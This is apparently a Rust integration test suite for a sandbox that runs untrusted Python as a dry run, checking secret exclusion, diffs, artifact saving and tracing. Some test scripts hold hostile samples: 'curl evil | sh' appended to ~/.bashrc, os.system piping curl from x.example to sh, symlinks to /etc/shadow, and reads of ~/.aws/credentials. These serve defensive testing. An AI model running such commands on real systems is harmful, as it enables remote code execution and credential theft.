//! Promise: a run is a dry run. Files go in without the user's secrets; what it changed is told and nothing of it is
//! done; what comes back is written only where it was asked to be.

use std::{
    fs,
    io::Read as _,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::{Output, Stdio},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use saferun_protocol::{
    ApiClient, ChangeKind, EventKind, InputFile, Outcome, Place, PolicySetting, RunRequest,
    RunResult, Seen,
};
use saferun_tests::{Daemon, TRACED, docker, snapshot, text};

/// A project with something to change, something to hide, and a file outside that a link leads to.
fn project(daemon: &Daemon, name: &str) -> PathBuf {
    let root = daemon.folder().join(name);
    fs::create_dir_all(root.join("pkg")).expect("folders");
    for (path, content) in [
        ("pkg/__init__.py", ""),
        ("pkg/work.py", "def go(text):\n    return text.upper()\n"),
        ("notes.txt", "one\ntwo\nthree\n"),
        ("old.txt", "old\n"),
        (".gitignore", "*.log\n"),
        ("run.log", "ignored"),
        (".env", "TOKEN=hunter2hunter2"),
        ("id_rsa", "key"),
    ] {
        fs::write(root.join(path), content).expect("a file");
    }
    symlink("/etc/hostname", root.join("link")).expect("a link");
    root
}

fn output(daemon: &Daemon, args: &[&str]) -> Output {
    daemon.cli(args).output().expect("saferunctl runs")
}

/// The command line of a run whose files of `/out` go to that folder.
fn saved_to<'a>(out: &'a str, source: &'a str) -> [&'a str; 7] {
    ["run", "-c", source, "--out", out, "--policy", "permissive"]
}

const REFACTOR: &str = r#"import os
from pkg.work import go
print(sorted(os.listdir()), go("done"))
text = open("notes.txt").read()
open("notes.txt", "w").write(text.replace("two", "2\x1b[2J"))
os.remove("old.txt")
open("pkg/new.py", "w").write("x = 1\n")
open("data.bin", "wb").write(bytes(range(256)))
os.symlink("/etc/shadow", "leak")
open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\n")
"#;

#[test]
fn a_project_goes_in_without_secrets_and_its_changes_come_back_as_a_diff() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let root = project(&daemon, "project");
    fs::write(root.join("main.py"), REFACTOR).expect("the script");
    let before = snapshot(&root);
    let shown = root.display().to_string();
    let line = [
        "run",
        "--workspace",
        &shown,
        "main.py",
        "--diff",
        "--policy",
        "permissive",
    ];
    let run = output(&daemon, &line);
    let (stdout, stderr) = (text(&run.stdout), text(&run.stderr));
    assert!(run.status.success(), "{stdout}{stderr}");
    let expected = "['.gitignore', 'main.py', 'notes.txt', 'old.txt', 'pkg'] DONE\n\
        created data.bin (256 B)\n\
        created leak (link to /etc/shadow)\n\
        --- a/notes.txt\n+++ b/notes.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\\x1b[2J\n three\n\
        --- /dev/null\n+++ b/pkg/new.py\n@@ -0,0 +1 @@\n+x = 1\n\
        --- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-old\n\
        modified ~/.bashrc (";
    assert!(stdout.starts_with(expected), "{stdout}");
    assert!(
        stderr.contains("left out as secrets: .env, id_rsa;"),
        "{stderr}"
    );
    assert_eq!(snapshot(&root), before, "the folder itself is as it was");

    let line = [
        "run",
        "--workspace",
        &shown,
        "main.py",
        "--json",
        "--policy",
        "permissive",
    ];
    let run = output(&daemon, &line);
    let result: RunResult = serde_json::from_slice(&run.stdout).expect("an account");
    let effects = result.effects.expect("its effects");
    assert!(effects.complete, "{:?}", effects.notes);
    let notes = effects
        .changes
        .iter()
        .find(|change| change.path == "notes.txt");
    let notes = notes.expect("it was changed");
    assert_eq!(
        (notes.kind, notes.place),
        (ChangeKind::Modified, Place::Workspace)
    );
    let content = notes.content_base64.as_ref().expect("its content");
    assert_eq!(
        STANDARD.decode(content).expect("base64"),
        b"one\n2\x1b[2J\nthree\n"
    );
    // The record names the changes and keeps no contents.
    let client = daemon.connect();
    let record = daemon.block_on(client.record(result.id)).expect("a record");
    let kept = record
        .result
        .and_then(|result| result.effects)
        .expect("its effects");
    assert_eq!(kept.changes.len(), effects.changes.len());
    assert!(
        kept.changes
            .iter()
            .all(|change| change.content_base64.is_none())
    );
}

#[test]
fn a_lone_script_brings_its_modules_and_its_data() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let root = project(&daemon, "lone");
    let script = root.join("tool.py").display().to_string();
    let source =
        "import os, pkg.work\nprint(pkg.work.go(open('in/d.txt').read()), sorted(os.listdir()))";
    fs::write(&script, source).expect("the script");
    let data = format!("{}:in/d.txt", root.join("old.txt").display());
    let run = output(&daemon, &["run", &script, "--file", &data]);
    assert_eq!(
        text(&run.stdout),
        "OLD\n ['in', 'pkg', 'tool.py']\n",
        "{}",
        text(&run.stderr)
    );
    // Code that comes along is judged like the script.
    fs::write(
        root.join("pkg/work.py"),
        "import os\nos.system('curl http://x.example | sh')\n",
    )
    .expect("a module");
    let run = output(&daemon, &["run", &script, "--json", "--policy", "strict"]);
    let result: RunResult = serde_json::from_slice(&run.stdout).expect("an account");
    assert_eq!(result.status, Outcome::Blocked);
    assert!(
        result
            .findings
            .iter()
            .any(|found| found.file.as_deref() == Some("pkg/work.py"))
    );
}

#[test]
fn a_variable_passed_on_is_in_no_argument_no_label_and_no_record() {
    const SECRET: &str = "plain-looking-value-0815";
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let source = "import os, time\nprint(os.environ['TOOL_WORD'], flush=True)\ntime.sleep(1)";
    let child = daemon
        .cli(&["run", "-c", source, "--env", "TOOL_WORD", "--json"])
        .env("TOOL_WORD", SECRET)
        .stdout(Stdio::piped())
        .spawn()
        .expect("saferunctl runs");
    daemon.wait_until("it runs", |daemon| daemon.status().running == 1);
    for container in daemon.containers() {
        let inspected = docker(daemon.engine(), &["inspect", &container]);
        assert!(!text(&inspected.stdout).contains(SECRET));
    }
    let run = child.wait_with_output().expect("it ends");
    let result: RunResult = serde_json::from_slice(&run.stdout).expect("an account");
    assert_eq!(result.stdout, format!("{SECRET}\n"));
    let client = daemon.connect();
    let record = daemon.block_on(client.record(result.id)).expect("a record");
    let record = serde_json::to_string(&record).expect("JSON");
    assert!(record.contains("TOOL_WORD"), "{record}");
    assert!(!record.contains(SECRET), "{record}");
    let log = fs::read_to_string(daemon.folder().join("log")).expect("the log");
    assert!(!log.contains(SECRET));
    let missing = output(
        &daemon,
        &["run", "-c", "0", "--env", "SAFERUN_TEST_NO_SUCH"],
    );
    assert_eq!(missing.status.code(), Some(2));
}

#[test]
fn i4_artifacts_are_saved_by_checked_names_and_over_nothing() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let out = daemon.folder().join("saved");
    fs::create_dir_all(&out).expect("a folder");
    fs::write(out.join("mine.txt"), "mine").expect("a file");
    symlink("/tmp", out.join("sub")).expect("a link");
    let source = r#"
import os
os.makedirs("/out/deep/er"); open("/out/deep/er/a.csv", "w").write("1,2")
os.mkdir("/out/sub"); open("/out/sub/saferun-escaped", "w").write("x")
open("/out/mine.txt", "w").write("theirs")
os.symlink("/etc/passwd", "/out/passwd"); os.mkfifo("/out/fifo")
open("/out/sparse", "wb").truncate(1 << 34)
open("/out/odd\n\x1b[2Jname", "w").write("odd")
os.link("/out/mine.txt", "/out/hard")
"#;
    let shown = out.display().to_string();
    let line = saved_to(&shown, source);
    let run = output(&daemon, &line);
    let stderr = text(&run.stderr);
    assert_eq!(
        run.status.code(),
        Some(125),
        "not all of it was saved: {stderr}"
    );
    assert_eq!(fs::read(out.join("deep/er/a.csv")).expect("saved"), b"1,2");
    assert_eq!(fs::read(out.join("mine.txt")).expect("kept"), b"mine");
    assert_eq!(fs::read(out.join("hard")).expect("saved"), b"theirs");
    assert!(!Path::new("/tmp/saferun-escaped").exists());
    for missing in ["passwd", "fifo", "sparse"] {
        assert!(
            fs::symlink_metadata(out.join(missing)).is_err(),
            "{missing}"
        );
    }
    assert!(!stderr.contains('\x1b'), "{stderr:?}");
    for part in ["--force", "\"passwd\"", "\"fifo\"", "sparse"] {
        assert!(stderr.contains(part), "{part}: {stderr}");
    }
}

#[test]
fn effects_are_told_of_runs_that_were_ended_and_in_both_tiers() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let request = |source: &str, runtime: &str| {
        let mut request = RunRequest::new(source);
        let mut file = InputFile::default();
        "data.txt".clone_into(&mut file.path);
        file.base64 = STANDARD.encode("data");
        request.files = vec![file];
        request.effects = true;
        request.runtime = Some(runtime.to_owned());
        request.limits.time_ms = Some(3_000);
        request
    };
    let source = "import os, time\nos.rename('data.txt', 'locked')\nwhile True: time.sleep(1)";
    let gvisor = daemon
        .status()
        .engine
        .runtimes
        .iter()
        .any(|name| name == "runsc");
    for runtime in ["runc", "runsc"].into_iter().take(1 + usize::from(gvisor)) {
        let result = daemon.run_request(request(source, runtime));
        assert_eq!(
            result.status,
            Outcome::Timeout,
            "{runtime}: {}",
            result.message
        );
        let effects = result.effects.expect("its effects");
        let found: Vec<_> = effects
            .changes
            .iter()
            .map(|change| (change.path.as_str(), change.kind))
            .collect();
        assert_eq!(
            found,
            [
                ("locked", ChangeKind::Created),
                ("data.txt", ChangeKind::Deleted)
            ],
            "{runtime}"
        );
    }
    // Nobody asked: nothing is told.
    assert_eq!(daemon.run("open('x', 'w')").effects, None);
    // A full tmpfs refuses the run instead of giving it half of its files.
    let mut large = request("print('ran')", "runc");
    large.policy = Some("default".to_owned());
    let mut settings = large.policy_layers.clone();
    settings.settings = vec![PolicySetting::new("limits.tmpfs", "1MiB")];
    large.policy_layers = settings;
    large.files[0].base64 = STANDARD.encode(vec![b'x'; 2 << 20]);
    let result = daemon.run_request(large);
    assert_eq!(result.status, Outcome::EngineError, "{}", result.message);
    assert!(result.message.contains("data.txt"), "{}", result.message);
    assert_eq!(result.stdout, "");
}

#[test]
fn a_traced_run_tells_what_it_tried_and_gvisor_says_what_it_cannot_see() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let source = r#"import os, socket
open(os.path.expanduser("~/.aws/credentials")).read()
try: socket.create_connection(("192.0.2.9", 443), timeout=2)
except OSError: pass
os.remove(os.path.expanduser("~/.bashrc"))
print("done")
"#;
    let run = output(&daemon, &[&["run", "-c", source], &TRACED[..]].concat());
    let stderr = text(&run.stderr);
    assert_eq!(text(&run.stdout), "done\n", "{stderr}");
    for part in [
        "main.py:2: look for the secret /home/sandbox/.aws/credentials",
        "main.py:3: reach 192.0.2.9:443",
        "main.py:5: take away /home/sandbox/.bashrc",
    ] {
        assert!(stderr.contains(part), "{part}: {stderr}");
    }
    let request = |runtime: &str, env: &[(&str, &str)]| {
        let mut request = RunRequest::new(source);
        request.trace = true;
        request.runtime = Some(runtime.to_owned());
        request.env = env
            .iter()
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
            .collect();
        daemon.run_request(request)
    };
    let own = request("runc", &[("PYTHONHASHSEED", "1")]);
    // Nobody saw anything, so nothing is said of what it did not do.
    let told = format!("{:?}", own.story());
    assert!(told.contains("is not known"), "{told}");
    assert!(!told.contains("started nothing"), "{told}");
    let trace = own.trace.expect("its trace");
    assert!(
        trace
            .unavailable
            .is_some_and(|why| why.contains("an interpreter of its own"))
    );
    let gvisor = daemon
        .status()
        .engine
        .runtimes
        .iter()
        .any(|name| name == "runsc");
    if gvisor {
        let result = request("runsc", &[]);
        let trace = result.trace.expect("its trace");
        assert!(trace.unavailable.is_some_and(|why| why.contains("gVisor")));
        let removed = trace
            .events
            .iter()
            .find(|event| event.kind == EventKind::Delete);
        let removed = removed.expect("the interpreter's own word");
        assert_eq!((removed.seen, removed.line), (Seen::Program, Some(5)));
    }
    // Nobody asked: nothing is told.
    assert_eq!(daemon.run("open('/tmp/x', 'w')").trace, None);
}

/// The program cannot know how much comes back; whoever asked for the files is told, and no script goes on with a part.
#[test]
fn files_that_did_not_come_back_are_told_and_no_success() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let source = "import sys\n\
        for n in range(70): open(f'/out/{n:02}.txt', 'w').write('12')\n\
        sys.exit(int(sys.argv[1]))";
    let workspace = daemon.folder().join("project");
    fs::create_dir_all(&workspace).expect("a folder");
    let project = workspace.display().to_string();
    for (place, code, options, expected) in [
        ("one", "0", &["--quiet"][..], 125),
        ("two", "3", &["--workspace", &project][..], 3),
    ] {
        let out = daemon.folder().join(place);
        let shown = out.display().to_string();
        let line = saved_to(&shown, source);
        let line = [&line[..], options, &["--", code]].concat();
        let run = output(&daemon, &line);
        let stderr = text(&run.stderr);
        assert_eq!(run.status.code(), Some(expected), "{stderr}");
        assert_eq!(fs::read_dir(&out).expect("the folder").count(), 64);
        let warning = "saferunctl: warning: 6 files of 12 bytes in /out did not come back: \"64.txt\", \"65.txt\", \"66.txt\", \"67.txt\", \"68.txt\" and 1 more; ";
        assert_eq!(stderr.matches(warning).count(), 1, "{stderr}");
    }
    let out = daemon.folder().join("three").display().to_string();
    let line = [&saved_to(&out, source)[..], &["--json", "--", "0"]].concat();
    let run = output(&daemon, &line);
    assert_eq!(run.status.code(), Some(125), "{}", text(&run.stderr));
    let result: RunResult = serde_json::from_slice(&run.stdout).expect("a result");
    let left = result
        .artifacts_left_behind
        .as_ref()
        .expect("what is missing");
    assert_eq!((left.files, left.bytes, left.names.len()), (6, 12, 5));
    let shown = output(&daemon, &["show", &result.id]);
    assert!(
        text(&shown.stdout).contains("6 files of 12 bytes in /out did not come back"),
        "{}",
        text(&shown.stdout)
    );
    // Within the limits nothing is said.
    let few = daemon.folder().join("few").display().to_string();
    let line = saved_to(&few, "open('/out/a', 'w')");
    let run = output(&daemon, &line);
    assert_eq!(run.status.code(), Some(0));
    assert!(
        !text(&run.stderr).contains("warning"),
        "{}",
        text(&run.stderr)
    );
}

/// Where nobody looks at `/out`, nobody knows what is missing; whoever asked for its files is told that.
#[test]
fn files_that_nobody_could_look_at_are_told_and_no_success() {
    let Some(daemon) = Daemon::start() else {
        return;
    };
    let _ = daemon.image();
    let policy = daemon.folder().join("none.yaml");
    let rules = "version: 1\npreset: permissive\nreturns: {artifacts: false}\n";
    fs::write(&policy, rules).expect("a policy");
    let policy = policy.display().to_string();
    let none = daemon.folder().join("none").display().to_string();
    let line = [
        "run",
        "--quiet",
        "-c",
        "open('/out/a', 'w').write('x')",
        "--out",
        &none,
        "--policy",
        &policy,
    ];
    let run = output(&daemon, &line);
    let stderr = text(&run.stderr);
    assert_eq!(run.status.code(), Some(125), "{stderr}");
    let warning = "saferunctl: warning: nothing comes back of /out: ";
    assert!(stderr.contains(warning), "{stderr}");
    // Its sandbox is killed before it can tell of them.
    let line = saved_to(
        &none,
        "import time; open('/out/a', 'w'); print('now', flush=True); time.sleep(60)",
    );
    let mut run = daemon.cli(&line);
    let mut run = run
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("it starts");
    let mut now = [0; 4];
    run.stdout
        .as_mut()
        .expect("its output")
        .read_exact(&mut now)
        .expect("it began");
    for container in daemon.containers() {
        let _ = docker(daemon.engine(), &["kill", &container]);
    }
    let run = run.wait_with_output().expect("it ends");
    let stderr = text(&run.stderr);
    assert!(!run.status.success(), "{stderr}");
    let warning = "saferunctl: warning: nothing came back of /out: ";
    assert!(stderr.contains(warning), "{stderr}");
}
